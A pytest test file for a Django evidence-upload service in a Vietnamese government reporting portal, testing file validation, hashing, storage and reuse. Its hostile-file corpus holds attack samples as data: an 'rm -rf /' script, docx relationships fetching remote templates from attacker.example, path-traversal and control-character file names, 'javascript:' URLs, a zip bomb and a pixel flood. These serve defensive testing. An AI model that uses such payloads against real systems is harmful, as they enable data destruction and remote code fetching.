"""Evidence uploads: content-based acceptance, the hostile corpus (nothing stored), streaming,
SHA-256, downloads through the permission-checked view, immutability, reuse."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from django.urls import reverse

from dti_portal.errors import Conflict, ValidationFailed
from evidence import services
from evidence.models import EvidenceFile, ReportingPeriod, Submission
from tests.evidence.hostile_files import (
    docx_with_rels,
    jpeg_truncated,
    odt_basic_macro,
    odt_like_libreoffice,
    odt_manifest_script_only,
    odt_python_script,
    png_garbage_pixels,
    png_interlaced,
    zip_of_future_version,
)
from tests.evidence.reporting_factories import (
    docx_bytes,
    encrypted_office_bytes,
    exe_bytes,
    html_bytes,
    jpg_bytes,
    odf_bytes,
    pdf_bytes,
    png_bytes,
    svg_bytes,
    xlsm_bytes,
    xlsx_bytes,
    zip_bomb_docx,
)

# Stored evidence goes to a fresh directory (tests/evidence/conftest.py, with ``world``).
pytestmark = pytest.mark.usefixtures("media_root")


@pytest.fixture
def draft(world, user_a):
    return services.submission_create(
        actor=user_a,
        indicator=world.ratio,
        period=world.period,
        values={"numerator": "3", "denominator": "4"},
    )


def stored_files() -> list[Path]:
    root = Path(settings.MEDIA_ROOT) / "evidence"
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def upload(client, sub, name, content, **extra):
    return client.post(
        reverse("api:submission-evidence", args=[sub.pk]),
        {"file": SimpleUploadedFile(name, content, content_type="application/pdf"), **extra},
        format="multipart",
    )


@pytest.mark.django_db
class TestAccepted:
    @pytest.mark.parametrize(
        ("name", "content", "mime"),
        [
            ("Biên bản họp số 12.pdf", pdf_bytes(), "application/pdf"),
            ("anh-chup.png", png_bytes(), "image/png"),
            ("Ảnh hiện trường.JPG", jpg_bytes(), "image/jpeg"),
            (
                "so-lieu.xlsx",
                xlsx_bytes(),
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            ),
            (
                "quyet-dinh.docx",
                docx_bytes(),
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            ),
            ("van-ban.odt", odf_bytes("text"), "application/vnd.oasis.opendocument.text"),
            (
                "bang-tinh.ods",
                odf_bytes("spreadsheet"),
                "application/vnd.oasis.opendocument.spreadsheet",
            ),
        ],
    )
    def test_accepted_types_stored_under_random_key(
        self, draft, user_a, api_as, name, content, mime
    ):
        resp = upload(api_as(user_a), draft, name, content, doc_number="12/QĐ-UBND")
        assert resp.status_code == 201, resp.content
        ev = EvidenceFile.objects.get()
        assert ev.original_name == name
        assert ev.mime_type == mime
        assert ev.sha256 == hashlib.sha256(content).hexdigest()
        assert ev.size == len(content)
        assert ev.doc_number == "12/QĐ-UBND"
        assert ev.uploaded_by == user_a
        assert name not in ev.file.name and "." not in os.path.basename(ev.file.name)
        assert ev.file.name.startswith(f"evidence/{draft.agency_id}/{draft.period_id}/")

    def test_link_evidence(self, draft, user_a, api_as):
        url = reverse("api:submission-evidence", args=[draft.pk])
        resp = api_as(user_a).post(
            url,
            {"url": "https://congbao.khanhhoa.gov.vn/vb/123", "doc_number": "123/KH"},
            format="multipart",
        )
        assert resp.status_code == 201
        assert EvidenceFile.objects.get().kind == "link"
        bad = api_as(user_a).post(url, {"url": "javascript:alert(1)"}, format="multipart")
        assert bad.status_code == 400


def _png(mode: str, **params) -> bytes:
    import io

    from PIL import Image

    buf = io.BytesIO()
    Image.new(mode, (13, 7)).save(buf, "PNG", **params)
    return buf.getvalue()


def _jpeg(mode: str, **params) -> bytes:
    import io

    from PIL import Image

    buf = io.BytesIO()
    Image.effect_noise((640, 480), 40).convert(mode).save(buf, "JPEG", **params)
    return buf.getvalue()


DOCX = "quyet-dinh.docx"
LOOK_ALIKES = [  # legitimate files close to a hostile sample: each new check keeps them
    ("van-ban.odt", odt_like_libreoffice()),
    (DOCX, docx_bytes(extra={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx_bytes()})),
    (DOCX, docx_bytes(extra={"word/media/image1.svg": svg_bytes(), "word/media/a.png": b"x"})),
    (DOCX, docx_bytes(extra={"word/media/image2.emf": b"\x01\x00\x00\x00" + b"\x00" * 80})),
    (
        DOCX,
        docx_with_rels(
            "word/_rels/document.xml.rels",
            ("hyperlink", "https://thuvienphapluat.vn/van-ban/922-QD-BTTTT", "External"),
            ("styles", "styles.xml", ""),
        ),
    ),
    (
        DOCX,
        docx_with_rels(
            "word/_rels/settings.xml.rels",
            ("attachedTemplate", "file:///C:/Users/CB/Templates/Mau-cong-van.dotx", "External"),
        ),
    ),
    ("anh-xen-ke.png", png_interlaced()),
    *[(f"anh-{mode}.png", _png(mode)) for mode in ("1", "L", "LA", "P", "RGBA", "I;16")],
    ("anh-trong-suot.png", _png("P", transparency=0)),
    *[(f"anh-{mode}.jpg", _jpeg(mode)) for mode in ("L", "RGB", "CMYK")],
    ("anh-progressive.jpg", _jpeg("RGB", progressive=True)),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "content"), LOOK_ALIKES)
def test_legitimate_look_alikes_accepted(draft, user_a, api_as, name, content):
    if name.endswith(".png"):
        import io

        from PIL import Image

        Image.open(io.BytesIO(content)).load()  # the sample itself is a valid image
    resp = upload(api_as(user_a), draft, name, content)
    assert resp.status_code == 201, resp.content
    assert EvidenceFile.objects.get().sha256 == hashlib.sha256(content).hexdigest()


def _fetching(part: str, kind: str, target: str) -> tuple[str, bytes, str]:
    rels = docx_with_rels(f"word/_rels/{part}.xml.rels", (kind, target, "External"))
    return ("quyet-dinh.docx", rels, "bên ngoài")


HOSTILE = [
    ("bao-cao.pdf", exe_bytes(), "chương trình"),
    ("bao-cao.pdf", html_bytes(), "HTML"),
    ("bang-tinh.xlsx", xlsm_bytes(), "macro"),
    ("van-ban.docx", zip_bomb_docx(), "zip bomb"),
    ("hinh.svg", svg_bytes(), "SVG"),
    ("hinh.png", svg_bytes(), "SVG"),
    ("mat-khau.docx", encrypted_office_bytes(), "mật khẩu"),
    ("bao-cao.docx", pdf_bytes(), "không khớp"),
    ("script.sh", b"#!/bin/sh\nrm -rf /\n", "chương trình"),
    # macros in ODF script folders (LibreOffice runs them)
    ("van-ban.odt", odt_basic_macro(), "macro"),
    ("van-ban.odt", odt_python_script(), "macro"),
    ("van-ban.odt", odt_manifest_script_only(), "macro"),
    # programs or web pages packed inside, by name or by content
    ("quyet-dinh.docx", docx_bytes(extra={"word/embeddings/setup.exe": exe_bytes()}), "đóng gói"),
    ("quyet-dinh.docx", docx_bytes(extra={"word/afchunk.html": html_bytes()}), "đóng gói"),
    ("quyet-dinh.docx", docx_bytes(extra={"customXml/run.js": "WScript.Run('x')"}), "đóng gói"),
    ("quyet-dinh.docx", docx_bytes(extra={"word/media/image1.png": exe_bytes()}), "đóng gói"),
    # relationships fetching from another machine when the file is opened
    _fetching("settings", "attachedTemplate", "http://attacker.example/t.dotm"),
    _fetching("document", "oleObject", "https://attacker.example/x.sct"),
    _fetching("webSettings", "frame", "http://attacker.example/frame.html"),
    _fetching("settings", "attachedTemplate", "\\\\attacker.example\\share\\t.dotx"),
    # images whose pixel data does not decode
    ("anh.png", png_garbage_pixels(), "Ảnh bị hỏng"),
    ("anh.jpg", jpeg_truncated(), "Ảnh bị hỏng"),
]


@pytest.mark.django_db
class TestHostileCorpus:
    @pytest.mark.parametrize(
        ("name", "content", "fragment"), HOSTILE, ids=[f"{n}-{f}" for n, _c, f in HOSTILE]
    )
    def test_refused_via_api_nothing_stored(self, draft, user_a, api_as, name, content, fragment):
        resp = upload(api_as(user_a), draft, name, content)
        assert resp.status_code == 400, resp.content
        assert fragment in resp.json()["file"][0]
        assert not EvidenceFile.objects.exists()
        assert stored_files() == []

    def test_oversized_refused(self, draft, user_a, api_as, settings):
        settings.EVIDENCE_MAX_UPLOAD_BYTES = 1024
        resp = upload(api_as(user_a), draft, "lon.pdf", pdf_bytes() + b"0" * 2048)
        assert resp.status_code == 400
        assert "Tệp quá lớn" in resp.json()["file"][0]
        assert "tối đa" in resp.json()["file"][0]
        assert not EvidenceFile.objects.exists() and stored_files() == []

    def test_default_limit_is_20_mb(self):
        assert settings.EVIDENCE_MAX_UPLOAD_BYTES == 20 * 1024 * 1024

    @pytest.mark.parametrize(
        "name",
        [
            "../../settings.pdf",
            "..\\..\\win.ini.pdf",
            "/etc/passwd.pdf",
            "bao\r\ncao.pdf",
            "hop\u202efdp.exe.pdf",
            "nul\x00.pdf",
        ],
    )
    def test_hostile_names_refused_by_service(self, draft, user_a, name):
        f = SimpleUploadedFile("x.pdf", pdf_bytes(), content_type="application/pdf")
        f._name = name  # bypass Django's own basename() to reach the service with the raw name
        with pytest.raises(ValidationFailed) as exc:
            services.evidence_add_file(submission=draft, actor=user_a, upload=f)
        assert "Tên tệp không hợp lệ" in exc.value.message
        assert not EvidenceFile.objects.exists() and stored_files() == []

    def test_hostile_names_over_http_never_reach_the_path(self, draft, user_a, api_as):
        """Django's multipart parser strips directories and control characters; the stored key
        is random whatever the name."""
        resp = upload(api_as(user_a), draft, "../../../../tmp/evil.pdf", pdf_bytes())
        assert resp.status_code == 201
        ev = EvidenceFile.objects.get()
        assert ev.original_name == "evil.pdf"
        assert "evil" not in ev.file.name and ".." not in ev.file.name
        assert Path(ev.file.path).resolve().is_relative_to(Path(settings.MEDIA_ROOT).resolve())

    def test_failure_after_storing_removes_the_file(self, draft, user_a, monkeypatch):
        from agencies.models import AuditEvent

        def boom(*a, **kw):
            raise RuntimeError("db down")

        monkeypatch.setattr(AuditEvent.objects, "create", boom)
        f = SimpleUploadedFile("a.pdf", pdf_bytes())
        with pytest.raises(RuntimeError):
            services.evidence_add_file(submission=draft, actor=user_a, upload=f)
        assert not EvidenceFile.objects.exists() and stored_files() == []


@pytest.mark.django_db
def test_vietnamese_name_kept_and_download_headers(draft, user_a, api_as, client_as):
    name = "Kế hoạch chuyển đổi số năm 2025.pdf"
    content = pdf_bytes()
    assert upload(api_as(user_a), draft, name, content).status_code == 201
    ev = EvidenceFile.objects.get()
    for client, url in (
        (api_as(user_a), reverse("api:evidence-download", args=[ev.pk])),
        (client_as(user_a), reverse("evidence:evidence_download", args=[ev.pk])),
    ):
        resp = client.get(url)
        assert resp.status_code == 200
        cd = resp["Content-Disposition"]
        assert cd.startswith("attachment")
        assert "filename*=utf-8''K%E1%BA%BF%20ho%E1%BA%A1ch" in cd
        assert resp["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in resp["Content-Security-Policy"]
        body = b"".join(resp.streaming_content) if resp.streaming else resp.content
        assert body == content
    inline = client_as(user_a).get(
        reverse("evidence:evidence_download", args=[ev.pk]) + "?inline=1"
    )
    assert inline["Content-Disposition"].startswith("inline")
    assert inline["Content-Type"] == "application/pdf"


@pytest.mark.django_db
def test_sendfile_backend_nginx_uses_x_accel_redirect(draft, user_a, client_as, settings):
    services.evidence_add_file(
        submission=draft, actor=user_a, upload=SimpleUploadedFile("a.pdf", pdf_bytes())
    )
    ev = EvidenceFile.objects.get()
    settings.SENDFILE_BACKEND = "django_sendfile.backends.nginx"
    from django_sendfile import utils

    utils._get_sendfile.cache_clear()
    try:
        resp = client_as(user_a).get(reverse("evidence:evidence_download", args=[ev.pk]))
        assert resp["X-Accel-Redirect"].startswith("/protected/evidence/")
        assert resp.content == b""
    finally:
        settings.SENDFILE_BACKEND = "django_sendfile.backends.simple"
        utils._get_sendfile.cache_clear()


@pytest.mark.django_db
def test_upload_streams_to_disk(draft, user_a, client_as, settings):
    """Uploads through the page and the API are written to a temporary file, never kept in
    memory, whatever FILE_UPLOAD_MAX_MEMORY_SIZE says."""
    seen = []
    real = services.evidence_files.inspect_upload

    def spy(fh, **kw):
        seen.append(type(fh))
        return real(fh, **kw)

    import evidence.services.evidence_files as ef

    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 10 * 1024 * 1024
    orig = ef.inspect_upload
    ef.inspect_upload = spy
    try:
        resp = client_as(user_a).post(
            reverse("evidence:evidence_upload", args=[draft.pk]),
            {"file": SimpleUploadedFile("a.pdf", pdf_bytes()), "doc_number": "1/BC"},
        )
        assert resp.status_code == 302
        from rest_framework.test import APIClient

        api = APIClient()
        api.force_authenticate(user_a)
        resp = api.post(
            reverse("api:submission-evidence", args=[draft.pk]),
            {"file": SimpleUploadedFile("b.png", png_bytes())},
            format="multipart",
        )
        assert resp.status_code == 201
    finally:
        ef.inspect_upload = orig
    assert seen == [TemporaryUploadedFile, TemporaryUploadedFile]
    assert EvidenceFile.objects.count() == 2


@pytest.mark.django_db
def test_sha256_is_computed_in_chunks(draft, user_a):
    from evidence.services.evidence_files import sha256_of

    content = os.urandom(300 * 1024)
    f = SimpleUploadedFile("a.pdf", content)
    calls = []
    orig = f.chunks

    def chunks(size=None):
        calls.append(size)
        return orig(size)

    f.chunks = chunks  # type: ignore[method-assign]
    assert sha256_of(f) == hashlib.sha256(content).hexdigest()
    assert calls == [64 * 1024]


@pytest.mark.django_db
class TestImmutableAndReuse:
    def test_no_add_or_remove_once_submitted(self, draft, user_a, api_as, client_as):
        services.evidence_add_file(
            submission=draft, actor=user_a, upload=SimpleUploadedFile("a.pdf", pdf_bytes())
        )
        ev = EvidenceFile.objects.get()
        sub = services.submission_submit(submission=draft, actor=user_a, version=draft.version)
        resp = upload(api_as(user_a), sub, "b.pdf", pdf_bytes())
        assert resp.status_code == 409
        assert "không thay đổi được" in resp.json()["detail"]
        with pytest.raises(Conflict):
            services.evidence_remove(evidence=ev, actor=user_a)
        page = client_as(user_a).post(reverse("evidence:evidence_remove", args=[ev.pk]))
        assert page.status_code == 302
        assert EvidenceFile.objects.count() == 1 and len(stored_files()) == 1

    def test_returned_item_keeps_what_was_submitted_and_takes_more(
        self, world, user_a, reviewer, client_as, django_capture_on_commit_callbacks
    ):
        draft = services.submission_create(  # agency A leads 1.2: it goes to the Sở
            actor=user_a, indicator=world.yes_no, period=world.period, values={"done": True}
        )
        services.evidence_add_file(
            submission=draft, actor=user_a, upload=SimpleUploadedFile("a.pdf", pdf_bytes())
        )
        sent = EvidenceFile.objects.get()
        sub = services.submission_submit(submission=draft, actor=user_a, version=draft.version)
        sub = services.submission_return(
            submission=sub,
            actor=reviewer,
            version=sub.version,
            reason_code="thieu_minh_chung",
            reason="Bổ sung quyết định",
        )
        # The file the Sở saw stays: not removable by the service, no button on the page.
        with pytest.raises(Conflict) as exc:
            services.evidence_remove(evidence=sent, actor=user_a)
        assert exc.value.code == "immutable"
        page = client_as(user_a).get(
            reverse("evidence:submission_edit", args=[sub.period_id, sub.indicator_id])
        )
        assert reverse("evidence:evidence_remove", args=[sent.pk]).encode() not in page.content
        # Additional evidence for the explanation can be added, and removed before resubmitting.
        services.evidence_add_file(
            submission=sub, actor=user_a, upload=SimpleUploadedFile("b.pdf", pdf_bytes("Bo sung"))
        )
        extra = EvidenceFile.objects.exclude(pk=sent.pk).get()
        page = client_as(user_a).get(
            reverse("evidence:submission_edit", args=[sub.period_id, sub.indicator_id])
        )
        assert reverse("evidence:evidence_remove", args=[extra.pk]).encode() in page.content
        with django_capture_on_commit_callbacks(execute=True):
            services.evidence_remove(evidence=extra, actor=user_a)
        assert list(EvidenceFile.objects.all()) == [sent] and len(stored_files()) == 1

    def test_remove_from_draft_deletes_row_and_file(
        self, draft, user_a, django_capture_on_commit_callbacks
    ):
        services.evidence_add_file(
            submission=draft, actor=user_a, upload=SimpleUploadedFile("a.pdf", pdf_bytes())
        )
        ev = EvidenceFile.objects.get()
        with django_capture_on_commit_callbacks(execute=True):
            services.evidence_remove(evidence=ev, actor=user_a)
        assert not EvidenceFile.objects.exists() and stored_files() == []

    def test_reuse_earlier_quarter_without_reupload(self, world, draft, user_a, client_as):
        services.evidence_add_file(
            submission=draft,
            actor=user_a,
            upload=SimpleUploadedFile("Quyết định 45.pdf", pdf_bytes()),
            doc_number="45/QĐ-UBND",
        )
        original = EvidenceFile.objects.get()
        services.submission_submit(submission=draft, actor=user_a, version=draft.version)
        q1 = ReportingPeriod.objects.create(
            framework=world.framework, year=2026, quarter=1, deadline=world.period.deadline
        )
        later = services.submission_create(
            actor=user_a,
            indicator=world.ratio,
            period=q1,
            values={"numerator": "1", "denominator": "1"},
        )
        from evidence import selectors

        assert list(selectors.reusable_evidence(user=user_a, submission=later)) == [original]
        resp = client_as(user_a).post(
            reverse("evidence:evidence_reuse", args=[later.pk]), {"source": original.pk}
        )
        assert resp.status_code == 302
        reused = EvidenceFile.objects.get(submission=later)
        assert reused.reused_from == original
        assert reused.file.name == original.file.name
        assert reused.sha256 == original.sha256 and reused.doc_number == "45/QĐ-UBND"
        assert len(stored_files()) == 1

    def test_cannot_reuse_another_agencys_file(self, world, draft, user_a, user_b):
        services.evidence_add_file(
            submission=draft, actor=user_a, upload=SimpleUploadedFile("a.pdf", pdf_bytes())
        )
        b_sub = services.submission_create(
            actor=user_b,
            indicator=world.ratio,
            period=world.period,
            values={"numerator": "1", "denominator": "1"},
        )
        with pytest.raises(ValidationFailed):
            services.evidence_reuse(
                submission=b_sub, actor=user_b, source=EvidenceFile.objects.get()
            )
        assert EvidenceFile.objects.filter(submission=b_sub).count() == 0
        assert Submission.objects.count() == 2


@pytest.mark.django_db
class TestReuseOffer:
    """Reusing earlier periods' files ("Dùng lại tài liệu đã nộp ở kỳ trước"): only files handed in with a submission that was
    sent (not a draft, not a returned item waiting to be sent again), in an earlier period
    (year, quarter; a year's annual round after its Q4)."""

    def item(self, world, user, year, quarter, state, name):
        period = ReportingPeriod.objects.filter(
            framework=world.framework, year=year, quarter=quarter
        ).first() or ReportingPeriod.objects.create(
            framework=world.framework, year=year, quarter=quarter, deadline=world.period.deadline
        )
        sub = services.submission_create(
            actor=user,
            indicator=world.ratio,
            period=period,
            values={"numerator": "1", "denominator": "2"},
        )
        services.evidence_add_file(
            submission=sub, actor=user, upload=SimpleUploadedFile(name, pdf_bytes(name))
        )
        Submission.objects.filter(pk=sub.pk).update(state=state)
        return Submission.objects.select_related("period").get(pk=sub.pk)

    def offered(self, user, sub):
        from evidence import selectors

        return sorted(
            ev.original_name for ev in selectors.reusable_evidence(user=user, submission=sub)
        )

    def test_only_sent_files_of_earlier_periods(self, world, user_a):
        S = Submission.State
        self.item(world, user_a, 2025, 1, S.APPROVED, "q1-approved.pdf")
        self.item(world, user_a, 2025, 2, S.DRAFT, "q2-draft.pdf")
        self.item(world, user_a, 2025, 3, S.RETURNED, "q3-returned.pdf")
        self.item(world, user_a, 2024, None, S.SUBMITTED_TO_LEAD, "2024-annual-sent.pdf")
        annual = self.item(world, user_a, 2025, None, S.SUBMITTED, "2025-annual.pdf")
        self.item(world, user_a, 2026, 1, S.UNDER_REVIEW, "2026-q1.pdf")
        q4 = self.item(world, user_a, 2025, 4, S.DRAFT, "q4-draft.pdf")
        assert q4.period == world.period
        assert self.offered(user_a, q4) == ["2024-annual-sent.pdf", "q1-approved.pdf"]
        # the annual round comes after the year's Q4: Q4's file once Q4 was sent
        Submission.objects.filter(pk=q4.pk).update(state=S.SUBMITTED)
        Submission.objects.filter(pk=annual.pk).update(state=S.DRAFT)
        assert self.offered(user_a, annual) == [
            "2024-annual-sent.pdf",
            "q1-approved.pdf",
            "q4-draft.pdf",
        ]

    def test_reuse_of_a_file_not_offered_is_refused(self, world, user_a):
        S = Submission.State
        draft_q1 = self.item(world, user_a, 2025, 1, S.DRAFT, "q1-draft.pdf")
        later = self.item(world, user_a, 2026, 1, S.SUBMITTED, "2026-q1.pdf")
        q4 = self.item(world, user_a, 2025, 4, S.DRAFT, "q4.pdf")
        for source in (draft_q1.evidence.get(), later.evidence.get()):
            with pytest.raises(ValidationFailed) as exc:
                services.evidence_reuse(submission=q4, actor=user_a, source=source)
            assert "source" in exc.value.errors
        assert q4.evidence.count() == 1


@pytest.mark.django_db
def test_same_file_twice_in_one_submission_refused(world, draft, user_a, api_as):
    """The same content (SHA-256) is stored once per submission, whatever its name; another
    content, or the same content in another submission, is still accepted."""
    api = api_as(user_a)
    content = pdf_bytes("Quyet dinh 45")
    assert upload(api, draft, "Quyết định 45.pdf", content).status_code == 201
    resp = upload(api, draft, "ban-sao.pdf", content)
    assert resp.status_code == 400
    message = resp.json()["file"][0]
    assert "đã có trong báo cáo" in message and "“Quyết định 45.pdf”" in message
    assert resp.json()["code"] == "duplicate"
    assert EvidenceFile.objects.count() == 1 and len(stored_files()) == 1
    assert upload(api, draft, "ban-sao.pdf", pdf_bytes("Quyet dinh 46")).status_code == 201
    other = services.submission_create(
        actor=user_a, indicator=world.yes_no, period=world.period, values={"done": True}
    )
    assert upload(api, other, "Quyết định 45.pdf", content).status_code == 201
    assert EvidenceFile.objects.filter(sha256=hashlib.sha256(content).hexdigest()).count() == 2


@pytest.mark.django_db
def test_pixel_flood_png_refused(draft, user_a, api_as):
    import io

    from PIL import Image

    buf = io.BytesIO()
    Image.new("1", (9000, 9000)).save(buf, "PNG")  # 81 megapixels in a few kB
    resp = upload(api_as(user_a), draft, "anh.png", buf.getvalue())
    assert resp.status_code == 400 and "Ảnh quá lớn" in resp.json()["file"][0]
    assert not EvidenceFile.objects.exists() and stored_files() == []


@pytest.mark.django_db
def test_page_upload_of_hostile_file_shows_message_and_stores_nothing(draft, user_a, client_as):
    c = client_as(user_a)
    resp = c.post(
        reverse("evidence:evidence_upload", args=[draft.pk]),
        {"file": SimpleUploadedFile("bao-cao.pdf", exe_bytes()), "doc_number": "1/BC"},
        follow=True,
    )
    assert resp.status_code == 200
    html = resp.content.decode()
    assert "Tệp chương trình (thực thi) bị từ chối" in html
    assert not EvidenceFile.objects.exists() and stored_files() == []
    # what was typed is kept for the next try (the file must be chosen again)
    assert 'id="id_doc_number" value="1/BC"' in html
    assert (
        'id="id_doc_number" value="1/BC"' not in c.get(resp.request["PATH_INFO"]).content.decode()
    )


@pytest.mark.django_db
def test_large_upload_is_never_held_in_memory(draft, user_a):
    """A 15 MB upload on disk is checked, hashed and stored with a small, bounded memory peak."""
    import tracemalloc

    size = 15 * 1024 * 1024
    tmp = TemporaryUploadedFile("Báo cáo lớn.pdf", "application/pdf", size, None)
    head = pdf_bytes()
    tmp.write(head[:-6])  # without the final %%EOF: padding goes in a comment-like tail
    block = b"%" + b"0" * (1024 * 1024 - 2) + b"\n"
    while tmp.tell() < size - len(block):
        tmp.write(block)
    tmp.write(b"%%EOF\n")
    tmp.size = tmp.tell()
    tmp.seek(0)
    tracemalloc.start()
    try:
        ev = services.evidence_add_file(submission=draft, actor=user_a, upload=tmp)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        tmp.close()  # the storage moved the temporary file; closing must not fail
    assert ev.size > 14 * 1024 * 1024
    assert peak < 3 * 1024 * 1024, peak


def _parse_multipart(files: dict, handler_cls):
    """Django's multipart parsing of ``files`` with one upload handler (as the views do)."""
    import io

    from django.http.multipartparser import MultiPartParser
    from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart

    body = encode_multipart(BOUNDARY, files)
    meta = {"CONTENT_TYPE": MULTIPART_CONTENT, "CONTENT_LENGTH": str(len(body))}
    _post, parsed = MultiPartParser(meta, io.BytesIO(body), [handler_cls()], "utf-8").parse()
    return parsed


@pytest.mark.django_db
def test_upload_is_hashed_while_streamed_to_disk(draft, user_a):
    """The SHA-256 computed while the parser writes the temporary file is the file's, each
    file has its own, and the service uses it instead of reading the file again."""
    from evidence.services.evidence_files import sha256_of
    from evidence.uploadhandlers import HashingTemporaryFileUploadHandler

    big = pdf_bytes() + os.urandom(2500 * 1024)  # several chunks
    small = png_bytes()
    parsed = _parse_multipart(
        {"file": SimpleUploadedFile("a.pdf", big), "other": SimpleUploadedFile("b.png", small)},
        HashingTemporaryFileUploadHandler,
    )
    upload, other = parsed["file"], parsed["other"]
    assert isinstance(upload, TemporaryUploadedFile) and upload.size == len(big)

    def no_reading(size=None):
        raise AssertionError("read again")

    upload.chunks = no_reading  # type: ignore[method-assign]
    assert sha256_of(upload) == hashlib.sha256(big).hexdigest()
    assert sha256_of(other) == hashlib.sha256(small).hexdigest()
    try:
        ev = services.evidence_add_file(submission=draft, actor=user_a, upload=upload)
    finally:
        upload.close()  # as the request does: the storage moved the temporary file
        other.close()
    assert ev.sha256 == hashlib.sha256(big).hexdigest()
    assert hashlib.sha256(Path(ev.file.path).read_bytes()).hexdigest() == ev.sha256


@pytest.mark.django_db
def test_streamed_digest_is_ignored_unless_it_covers_the_file():
    from evidence.services.evidence_files import sha256_of
    from evidence.uploadhandlers import DIGEST_ATTR

    content = os.urandom(100 * 1024)
    f = SimpleUploadedFile("a.pdf", content)
    setattr(f, DIGEST_ATTR, (len(content) - 1, "0" * 64))  # another size: not this file's
    assert sha256_of(f) == hashlib.sha256(content).hexdigest()


@pytest.mark.django_db
def test_upload_temp_dir_is_created_at_startup(settings, tmp_path):
    from django.apps import apps

    target = tmp_path / "media" / ".uploads"
    settings.FILE_UPLOAD_TEMP_DIR = str(target)
    apps.get_app_config("evidence").ready()
    assert target.is_dir() and (target.stat().st_mode & 0o777) == 0o700


@pytest.mark.django_db
def test_upload_queries_in_an_open_period(draft, user_a, api_as, django_assert_max_num_queries):
    """An open period needs no extension lookup; the audit row reuses the locked agency."""
    with django_assert_max_num_queries(12) as ctx:
        resp = upload(api_as(user_a), draft, "a.pdf", pdf_bytes())
    assert resp.status_code == 201, resp.content
    sqls = [q["sql"] for q in ctx.captured_queries]
    assert not any("evidence_itemextension" in s for s in sqls)
    assert not any(s.startswith('SELECT "agencies_agency"') for s in sqls)


@pytest.mark.django_db
def test_truncated_jpeg_refused_in_a_process_that_loaded_weasyprint(draft, user_a, api_as):
    """Importing WeasyPrint (any PDF export in that worker) sets Pillow's process-wide
    LOAD_TRUNCATED_IMAGES, under which a truncated JPEG decodes "fine": the check must not
    depend on it, and must leave it as it found it."""
    from PIL import ImageFile

    saved = ImageFile.LOAD_TRUNCATED_IMAGES
    ImageFile.LOAD_TRUNCATED_IMAGES = True  # what `import weasyprint` does
    try:
        resp = upload(api_as(user_a), draft, "anh.jpg", jpeg_truncated())
        assert ImageFile.LOAD_TRUNCATED_IMAGES is True
    finally:
        ImageFile.LOAD_TRUNCATED_IMAGES = saved
    assert resp.status_code == 400, resp.content
    assert "Ảnh bị hỏng" in resp.json()["file"][0]
    assert not EvidenceFile.objects.exists()


@pytest.mark.django_db
class TestFileLimit:
    """At most ``MAX_FILES_PER_SUBMISSION`` files per submission: the limit refuses one more
    file, never a removal (the way back under it)."""

    @pytest.fixture
    def full(self, draft, user_a, monkeypatch):
        from evidence.services import evidence_files

        monkeypatch.setattr(evidence_files, "MAX_FILES_PER_SUBMISSION", 2)
        for i in range(2):
            EvidenceFile.objects.create(
                submission=draft,
                kind=EvidenceFile.Kind.LINK,
                url=f"https://example.gov.vn/{i}",
                uploaded_by=user_a,
            )
        return draft

    def test_one_more_file_refused(self, full, user_a):
        with pytest.raises(ValidationFailed) as exc:
            services.evidence_add_file(
                submission=full, actor=user_a, upload=SimpleUploadedFile("a.pdf", pdf_bytes())
            )
        assert "tối đa 2 tài liệu" in str(exc.value)
        with pytest.raises(ValidationFailed):
            services.evidence_add_link(
                submission=full, actor=user_a, url="https://example.gov.vn/3"
            )
        assert full.evidence.count() == 2 and stored_files() == []

    def test_removal_at_the_limit_allowed(self, full, user_a):
        services.evidence_remove(evidence=full.evidence.first(), actor=user_a)
        assert full.evidence.count() == 1


@pytest.mark.django_db
def test_upload_counts_and_checks_duplicates_in_one_query(
    draft, user_a, django_assert_max_num_queries
):
    """After the row lock, one query gives the number of files and the name of a file with the
    same content (a fresh statement: it sees what a concurrent upload committed meanwhile)."""
    with django_assert_max_num_queries(20) as ctx:
        services.evidence_add_file(
            submission=draft, actor=user_a, upload=SimpleUploadedFile("a.pdf", pdf_bytes())
        )
    reads = [
        q["sql"]
        for q in ctx.captured_queries
        if q["sql"].startswith("SELECT")
        and '"evidence_evidencefile"' in q["sql"].split(" FROM ")[1][:40]
    ]
    assert len(reads) == 1, reads


@pytest.mark.django_db
def test_stored_file_is_flushed_to_disk_before_its_row(draft, user_a, monkeypatch):
    """The evidence file and its directory entry are fsynced by the storage, before the row is
    inserted (and so before the commit that makes the row durable)."""
    import dti_portal.storage

    flushed: list[tuple[str, bool]] = []
    real_open = dti_portal.storage.os.open

    def recording_open(path, flags, *args):
        fd = real_open(path, flags, *args)
        paths[fd] = path
        return fd

    paths: dict[int, str] = {}

    def recording_fsync(fd):
        flushed.append((paths[fd], EvidenceFile.objects.exists()))

    monkeypatch.setattr(dti_portal.storage.os, "open", recording_open)
    monkeypatch.setattr(dti_portal.storage.os, "fsync", recording_fsync)
    ev = services.evidence_add_file(
        submission=draft, actor=user_a, upload=SimpleUploadedFile("a.pdf", pdf_bytes())
    )
    # The first file of this agency and period: evidence/<agency>/<period>/ were created too,
    # and each new directory's entry in its parent is flushed (deepest first).
    period_dir = os.path.dirname(ev.file.path)
    agency_dir = os.path.dirname(period_dir)
    evidence_dir = os.path.dirname(agency_dir)
    assert flushed == [
        (ev.file.path, False),
        (period_dir, False),
        (agency_dir, False),
        (evidence_dir, False),
        (settings.MEDIA_ROOT, False),
    ]
    flushed.clear()
    second = services.evidence_add_file(
        submission=draft, actor=user_a, upload=SimpleUploadedFile("b.pdf", pdf_bytes("Bien ban 2"))
    )
    assert flushed == [(second.file.path, True), (period_dir, True)]  # no new directory


@pytest.mark.django_db
@pytest.mark.parametrize("failing", ["file", "directory"])
def test_failed_flush_leaves_neither_row_nor_file(draft, user_a, monkeypatch, failing):
    """A flush that fails (EIO, ENOSPC on a thin volume) fails the upload with an OSError (a
    retryable error) and leaves nothing behind: the file the storage had already written is
    removed, not left for the nightly janitor a day later."""
    import errno

    import dti_portal.storage

